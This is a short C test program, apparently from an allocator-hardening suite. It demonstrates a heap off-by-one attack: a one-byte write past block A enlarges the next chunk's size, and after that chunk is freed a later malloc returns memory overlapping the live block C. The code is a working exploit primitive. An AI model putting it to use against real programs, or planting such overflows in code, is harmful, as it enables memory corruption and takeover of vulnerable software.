/* off_by_one: a one-byte overflow past a block raises the next chunk's
 * size, so that its free makes it swallow the live block above it.
 *
 * Goal: a later malloc returns memory overlapping the live block C.
 *
 * A (248 bytes), B (240 bytes, a 256-byte chunk), C (112 bytes, a 128-byte
 * chunk) and a guard. The byte one past A's usable size is the low byte of
 * B's size word (0x00 plus flags, the size being 0x100); the attacker reads
 * it and writes it back with 0x80 added, making B a 0x180-byte chunk that
 * ends where C ends. Then free(B) and malloc(368), which needs a 0x180-byte
 * chunk.
 *   off_by_one      (no arguments)
 */
#include "attacks.h"

int main(void)
{
    char *a = opaque(malloc(248)), *b = opaque(malloc(240)), *c = opaque(malloc(112));
    char *guard = opaque(malloc(40));
    need_layout(b, c);
    memset(c, 'C', 112);
    unsigned char *byte = (unsigned char *)a + malloc_usable_size(a);
    *byte = (unsigned char)((*byte & 0x0F) | 0x80); /* the off-by-one */
    free(b);
    char *d = opaque(malloc(368));
    if (d && overlap(d, 368, c, 112))
        reached("malloc(368) returned %p, overlapping the live block C at %p", (void *)d, (void *)c);
    opaque(guard);
    not_reached("malloc(368) returned %p, clear of C at %p", (void *)d, (void *)c);
}
